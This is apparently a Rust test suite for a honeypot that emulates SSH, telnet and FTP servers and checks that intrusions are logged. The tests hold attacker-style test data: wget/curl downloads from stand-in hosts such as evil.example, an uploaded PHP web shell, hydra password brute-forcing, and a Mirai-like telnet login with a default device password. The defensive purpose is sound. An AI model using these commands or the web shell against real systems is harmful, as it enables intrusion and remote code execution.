//! ssh, telnet and ftp with ssh, sshpass, sftp, scp, curl, lftp, nmap and hydra.

use std::path::Path;

use aegis_sensor::{
    persona::Os,
    session::EventType,
    testing::{self, Decoy},
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::{Ran, decoy, have, nmap, run, run_with, start};

const ALL: [(&str, &str); 1] = [("credentials", "root:123456")];
const QUIET: [&str; 6] = [
    "-oStrictHostKeyChecking=no",
    "-oUserKnownHostsFile=/dev/null",
    "-oLogLevel=ERROR",
    "-oPubkeyAuthentication=no",
    "-oConnectTimeout=60",
    "-F/dev/null",
];

/// Runs ssh, or a program that takes the same options, with a password.
async fn with_password(program: &str, password: &str, args: &[&str], input: &[u8]) -> Ran {
    let mut all = vec!["-p", password, program];
    all.extend(QUIET);
    all.extend(args);
    run_with("sshpass", &all, input).await
}

async fn ssh(decoy: &Decoy, command: &str) -> Ran {
    let port = decoy.address().port().to_string();
    with_password("ssh", "123456", &["-p", &port, "root@127.0.0.1", command], b"").await
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_runs_commands_on_a_machine_that_stays_the_same() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Debian12, &ALL);
    let ran = ssh(&decoy, "uname -a; id; cat /etc/os-release | head -1").await;
    assert!(ran.success, "{}", ran.text);
    assert!(
        ran.text.contains(
            "Linux srv-07 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux"
        ),
        "{}",
        ran.text
    );
    assert!(ran.text.contains("uid=0(root) gid=0(root) groups=0(root)"));
    assert!(ran.text.contains("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\""));
    // What is made is there in the next session, and the shell is a shell.
    ssh(&decoy, "mkdir -p /tmp/.x && cd /tmp/.x && for i in 1 2 3; do echo line$i; done > f && chmod 600 f").await;
    let ran = ssh(
        &decoy,
        "cd /tmp/.x; wc -l < f; grep -c line f; echo \"$(tail -n1 f) $((6*7))\" | tr a-z A-Z; ls -l f; nosuch; echo $?",
    )
    .await;
    for wanted in ["3\n", "LINE3 42", "-rw------- 1 root root", "bash: line 1: nosuch: command not found", "127\n"] {
        assert!(ran.text.contains(wanted), "{wanted}: {}", ran.text);
    }
    let ran = ssh(&decoy, "exit 7").await;
    assert!(!ran.success);
    let told = decoy.told(EventType::Command, 4).await;
    assert!(told.iter().any(|told| told.fields["command"] == "exit 7" && told.fields["exit_code"] == "7"), "{told:?}");
    let success = &decoy.told(EventType::AuthSuccess, 1).await[0];
    assert_eq!(success.fields["password"], "123456");
    assert_eq!(success.fields["hassh"].len(), 32);
    assert!(success.fields["client_banner"].starts_with("SSH-2.0-OpenSSH"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_fetched_and_all_is_told() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Ubuntu2204, &ALL);
    let ran = ssh(&decoy, "cd /tmp; wget http://198.51.100.9/x.sh; curl -O http://evil.example/y; ls").await;
    assert!(ran.text.contains("Connecting to 198.51.100.9:80... failed: No route to host."), "{}", ran.text);
    assert!(ran.text.contains("curl: (6) Could not resolve host: evil.example"), "{}", ran.text);
    let told = decoy.told(EventType::DownloadAttempt, 2).await;
    assert_eq!(told[0].fields["url"], "http://198.51.100.9/x.sh");
    assert_eq!(told[1].fields["tool"], "curl");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_terminal_is_recorded() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Debian12, &ALL);
    let port = decoy.address().port().to_string();
    let ran =
        with_password("ssh", "123456", &["-tt", "-p", &port, "root@127.0.0.1"], b"cd /etc\nls -d ho*\npwd\nexit\n")
            .await;
    assert!(ran.text.contains("root@srv-07:~# ") && ran.text.contains("root@srv-07:/etc# "), "{}", ran.text);
    assert!(ran.text.contains("hostname") && ran.text.contains("ABSOLUTELY NO WARRANTY"), "{}", ran.text);
    let cast = decoy.recording().await;
    assert!(cast.starts_with('{') && cast.contains("\"version\":2"), "{cast}");
    assert!(cast.contains("root@srv-07"));
}

#[tokio::test(flavor = "multi_thread")]
async fn files_come_and_go_by_sftp_and_scp() {
    if !have(&["sftp", "scp", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Debian12, &ALL);
    let port = decoy.address().port().to_string();
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_string_lossy().into_owned();
    let mut program: Vec<u8> =
        b"\x7fELF\x02\x01\x01".iter().copied().chain((0..200_000_u32).map(|n| (n % 251) as u8)).collect();
    // For this kind of machine.
    program[18] = 0x3e;
    std::fs::write(path("bot"), &program).unwrap();

    let batch = format!(
        "put {} /tmp/bot\nchmod 755 /tmp/bot\nls -l /tmp\nget /tmp/bot {}\nget /etc/hostname {}\n",
        path("bot"),
        path("back"),
        path("name")
    );
    let ran = with_password("sftp", "123456", &["-P", &port, "root@127.0.0.1"], batch.as_bytes()).await;
    assert!(ran.text.contains("-rwxr-xr-x"), "{}", ran.text);
    assert_eq!(std::fs::read(path("back")).unwrap(), program);
    assert_eq!(std::fs::read_to_string(path("name")).unwrap(), "srv-07\n");
    let captured = decoy.captured().await;
    assert_eq!((captured[0].0.as_str(), captured[0].1.len()), ("bot", program.len()));

    for old in ["-O", "-s"] {
        let to = "root@127.0.0.1:/tmp/second".to_owned();
        let ran = with_password("scp", "123456", &[old, "-P", &port, &path("bot"), &to], b"").await;
        assert!(ran.success, "{old} {}", ran.text);
        let back = path(&format!("back{old}"));
        let ran = with_password("scp", "123456", &[old, "-P", &port, &to, &back], b"").await;
        assert!(ran.success && Path::new(&back).is_file(), "{old} {}", ran.text);
        assert_eq!(std::fs::read(&back).unwrap(), program);
    }
    let ran = ssh(&decoy, "sha256sum /tmp/bot /tmp/second | cut -c1-8 | uniq | wc -l; /tmp/bot; echo $?").await;
    assert!(ran.text.contains("1\n0\n"), "{}", ran.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_over_the_input_is_kept() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Debian12, &ALL);
    let port = decoy.address().port().to_string();
    let script = b"#!/bin/sh\necho ran $1\n";
    let command = "cat > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh well";
    let ran = with_password("ssh", "123456", &["-p", &port, "root@127.0.0.1", command], script).await;
    assert_eq!(ran.text, "ran well\n");
    let captured = decoy.captured().await;
    assert_eq!((captured[0].0.as_str(), captured[0].1.as_slice()), ("s.sh", script.as_slice()));
    assert_eq!(captured.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn forwarding_is_refused_and_told() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Rocky9, &ALL);
    let port = decoy.address().port().to_string();
    let ran = with_password("ssh", "123456", &["-p", &port, "-W", "192.0.2.1:25", "root@127.0.0.1"], b"").await;
    assert!(!ran.success);
    assert!(decoy.told(EventType::DownloadAttempt, 1).await[0].fields["url"].contains("192.0.2.1:25"));
}

#[tokio::test(flavor = "multi_thread")]
async fn hydra_finds_the_password_that_is_let_in() {
    if !have(&["hydra", "nmap"]) {
        return;
    }
    let decoy = decoy("ssh", Os::Debian12, &ALL);
    let port = decoy.address().port().to_string();
    let folder = tempfile::tempdir().unwrap();
    let list = folder.path().join("passwords");
    std::fs::write(&list, "admin\nroot\n123456\n").unwrap();
    let ran =
        run("hydra", &["-I", "-l", "root", "-P", &list.to_string_lossy(), "-t", "2", "-s", &port, "ssh://127.0.0.1"])
            .await;
    assert!(ran.text.contains("password: 123456"), "{}", ran.text);
    let failed = decoy.told(EventType::AuthFail, 2).await;
    assert_eq!(failed[0].fields["username"], "root");
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_names_the_build_and_its_lists() {
    if !have(&["nmap"]) {
        return;
    }
    for (os, wanted) in [
        (Os::Debian12, "OpenSSH 9.2p1 Debian 2+deb12u2"),
        (Os::Ubuntu2004, "OpenSSH 8.2p1 Ubuntu 4ubuntu0.11"),
        (Os::CentOs7, "OpenSSH 7.4"),
        (Os::WindowsServer2019, "OpenSSH for_Windows_7.7"),
    ] {
        let decoy = decoy("ssh", os, &[]);
        let said = nmap(&decoy).await;
        assert!(said.contains(wanted), "{os:?}: {said}");
    }
    // The key exchange is one that this version has, and the host keys are its own.
    let decoy = decoy("ssh", Os::Debian11, &[]);
    let port = decoy.address().port().to_string();
    let ran =
        run("nmap", &["-Pn", "-n", "-sV", "--script", "ssh2-enum-algos,ssh-auth-methods", "-p", &port, "127.0.0.1"])
            .await;
    assert!(
        ran.text.contains("rsa-sha2-512") && ran.text.contains("diffie-hellman-group-exchange-sha256"),
        "{}",
        ran.text
    );
    for never in ["mlkem768", "group15", "kex-strict-c", "hmac-sha1"] {
        assert!(!ran.text.contains(never), "{never}: {}", ran.text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn host_keys_stay_and_are_ones_own() {
    if !have(&["ssh-keyscan"]) {
        return;
    }
    let mut seen = Vec::new();
    for seed in [1, 1, 2] {
        let decoy = start(testing::persona_of(Os::Debian12, seed), "ssh", &[]);
        let port = decoy.address().port().to_string();
        let ran = run("ssh-keyscan", &["-T", "60", "-t", "ed25519,ecdsa,rsa", "-p", &port, "127.0.0.1"]).await;
        let mut keys: Vec<String> = ran
            .text
            .lines()
            .filter(|line| !line.starts_with('#'))
            .filter_map(|line| line.split_once(' ').map(|(_, key)| key.to_owned()))
            .collect();
        keys.sort();
        assert_eq!(keys.len(), 3, "{}", ran.text);
        seen.push(keys);
    }
    assert_eq!(seen[0], seen[1]);
    assert!(seen[0].iter().all(|key| !seen[2].contains(key)));
}

#[tokio::test]
async fn what_is_no_ssh_is_answered_as_sshd_does() {
    let decoy = decoy("ssh", Os::Debian12, &[]);
    let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert_eq!(answer, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\nInvalid SSH identification string.\r\n");
    assert_eq!(decoy.told(EventType::Scan, 1).await[0].fields["kind"], "http_method");
}

/// Reads until this text has come.
async fn until(stream: &mut tokio::net::TcpStream, text: &str) -> String {
    let mut all = Vec::new();
    let mut buffer = [0; 1024];
    let read = async {
        while !String::from_utf8_lossy(&all).contains(text) {
            let count = stream.read(&mut buffer).await.unwrap();
            assert!(count > 0, "ended before {text}: {}", String::from_utf8_lossy(&all));
            all.extend_from_slice(&buffer[..count]);
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(20), read)
        .await
        .unwrap_or_else(|_| panic!("{text} did not come"));
    String::from_utf8_lossy(&all).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn telnet_of_a_device_is_what_bots_look_for() {
    let decoy = decoy("telnet", Os::BusyBox, &[("credentials", "root:xc3511")]);
    let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    until(&mut stream, "login: ").await;
    stream.write_all(b"root\r\n").await.unwrap();
    until(&mut stream, "Password: ").await;
    stream.write_all(b"wrong\r\n").await.unwrap();
    let text = until(&mut stream, "login: ").await;
    assert!(text.contains("Login incorrect"), "{text}");
    stream.write_all(b"root\r\n").await.unwrap();
    until(&mut stream, "Password: ").await;
    stream.write_all(b"xc3511\r\n").await.unwrap();
    until(&mut stream, "# ").await;
    stream.write_all(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n").await.unwrap();
    let text = until(&mut stream, "MIRAI: applet not found").await;
    assert!(text.contains("enable: not found"), "{text}");
    stream
        .write_all(b"echo -ne \"\\x41\\x42\\x43\" > /tmp/f; cat /tmp/f; cat /proc/cpuinfo | grep -m1 model\r\n")
        .await
        .unwrap();
    let text = until(&mut stream, "ARMv7").await;
    assert!(text.contains("ABC"), "{text}");
    assert_eq!(decoy.told(EventType::AuthSuccess, 1).await[0].fields["password"], "xc3511");
    assert!(decoy.told(EventType::Command, 5).await.iter().any(|told| told.fields["command"] == "/bin/busybox MIRAI"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_and_hydra_meet_a_telnet_daemon() {
    if !have(&["nmap", "hydra"]) {
        return;
    }
    let decoy = decoy("telnet", Os::Debian12, &[("credentials", "admin:admin")]);
    let said = nmap(&decoy).await;
    assert!(said.contains("telnet"), "{said}");
    let port = decoy.address().port().to_string();
    let ran = run("hydra", &["-I", "-l", "admin", "-p", "admin", "-t", "1", "-s", &port, "telnet://127.0.0.1"]).await;
    assert!(ran.text.contains("password: admin"), "{}", ran.text);
}

#[tokio::test(flavor = "multi_thread")]
async fn curl_and_lftp_move_files_by_ftp() {
    if !have(&["curl", "lftp"]) {
        return;
    }
    let decoy = decoy("ftp", Os::Ubuntu2004, &[("credentials", "admin:admin")]);
    let base = format!("ftp://admin:admin@{}", decoy.address());
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("shell.php");
    std::fs::write(&file, "<?php system($_GET['c']); ?>").unwrap();
    let file = file.to_string_lossy().into_owned();
    let ran = run("curl", &["-sS", "-T", &file, &format!("{base}/shell.php")]).await;
    assert!(ran.success, "{}", ran.text);
    let ran = run("curl", &["-sS", &format!("{base}/shell.php")]).await;
    assert_eq!(ran.text, "<?php system($_GET['c']); ?>");
    let ran = run("curl", &["-sS", &format!("{base}/")]).await;
    assert!(ran.text.contains("shell.php") && ran.text.contains("-rw-r--r--"), "{}", ran.text);
    let script = format!(
        "set net:timeout 20; set ssl:verify-certificate no; set ftp:ssl-allow no; open {base}; mkdir up; cd up; put {file} -o a.txt; cls -l; mv a.txt b.txt; cls; rm b.txt; bye"
    );
    let ran = run("lftp", &["-c", &script]).await;
    assert!(ran.success && ran.text.contains("b.txt"), "{}", ran.text);
    let captured = decoy.captured().await;
    assert_eq!(captured[0].1, b"<?php system($_GET['c']); ?>");
    // No active transfers: nothing connects out.
    let ran = run("curl", &["-sS", "-P", "127.0.0.1", "--disable-eprt", &format!("{base}/")]).await;
    assert!(!ran.success, "{}", ran.text);
    assert!(decoy.told(EventType::DownloadAttempt, 1).await[0].fields["command"].starts_with("PORT "));
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_and_hydra_meet_an_ftp_server() {
    if !have(&["nmap", "hydra"]) {
        return;
    }
    for (os, wanted) in [
        (Os::Ubuntu2004, "vsftpd 3.0.3"),
        (Os::WindowsServer2019, "Microsoft ftpd"),
        (Os::Windows10, "FileZilla ftpd 0.9.41"),
        (Os::FreeBsd13, "ProFTPD 1.3.8"),
    ] {
        let decoy = decoy("ftp", os, &[]);
        let said = nmap(&decoy).await;
        assert!(said.to_lowercase().contains(&wanted.to_lowercase()), "{os:?}: {said}");
    }
    let decoy = decoy("ftp", Os::Ubuntu2004, &[("credentials", "admin:admin")]);
    let port = decoy.address().port().to_string();
    let ran = run("hydra", &["-I", "-l", "admin", "-p", "admin", "-t", "1", "-s", &port, "ftp://127.0.0.1"]).await;
    assert!(ran.text.contains("password: admin"), "{}", ran.text);
}
